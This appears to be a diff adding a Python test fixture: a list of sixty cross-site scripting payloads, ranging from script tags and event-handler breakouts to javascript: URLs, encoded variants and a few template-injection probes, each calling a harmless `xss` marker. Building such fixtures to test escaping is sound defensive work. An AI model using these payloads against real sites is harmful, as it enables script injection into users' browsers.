@@ -1,0 +1,38 @@
+"""Sixty texts that would run in a page which does not escape them. Each asks for `xss`, so that a run shows."""
+
+_RUNS = ("xss()", "window.xss=1", "top['x'+'ss']()", "eval('xss()')")
+
+PAYLOADS: tuple[str, ...] = (
+    *(f"<script>{run}</script>" for run in _RUNS),
+    *(f"</{end}><script>xss()</script>" for end in ("title", "textarea", "style", "script", "option", "select", "svg")),
+    *(f"<img src=x onerror={run}>" for run in _RUNS),
+    *(f'"><img src=x onerror="{run}">' for run in _RUNS),
+    *(f"'><svg onload='{run}'>" for run in _RUNS),
+    *(f'" {on}="xss()" x="' for on in ("onfocus", "onmouseover", "onclick", "onload", "onpointerrawupdate")),
+    *(f"' {on}='xss()' x='" for on in ("onfocus autofocus", "onanimationstart", "ontoggle", "onbegin")),
+    *(f"{scheme}xss()" for scheme in ("javascript:", "JaVaScRiPt:", "java\tscript:", "data:text/javascript,")),
+    '<a href="javascript:xss()">read</a>',
+    '<iframe srcdoc="<script>parent.xss()</script>">',
+    '<iframe src="javascript:parent.xss()">',
+    '<object data="javascript:xss()">',
+    '<embed src="javascript:xss()">',
+    "<details open ontoggle=xss()>",
+    "<video><source onerror=xss()></video>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=xss()>",
+    '<form><button formaction="javascript:xss()">go</button></form>',
+    '<base href="javascript:xss()//">',
+    '<meta http-equiv="refresh" content="0;url=javascript:xss()">',
+    '<svg><animate xlink:href="#x" attributeName="href" values="javascript:xss()"/></svg>',
+    "<svg><script>xss()</script></svg>",
+    "<!--><img src=x onerror=xss()>-->",
+    "]]><script>xss()</script>",
+    "&lt;script&gt;xss()&lt;/script&gt;",
+    "&#60;script&#62;xss()&#60;/script&#62;",
+    "%3Cscript%3Exss()%3C/script%3E",
+    "\\u003cscript\\u003exss()\\u003c/script\\u003e",
+    "{{ self.__init__.__globals__ }}<script>xss()</script>",
+    "{% print(7*7) %}<img src=x onerror=xss()>",
+    "${7*7}<script>xss()</script>",
+    "<ScRiPt>xss()</sCrIpT>",
+    "\uff1cscript\uff1exss()\uff1c/script\uff1e",
+)
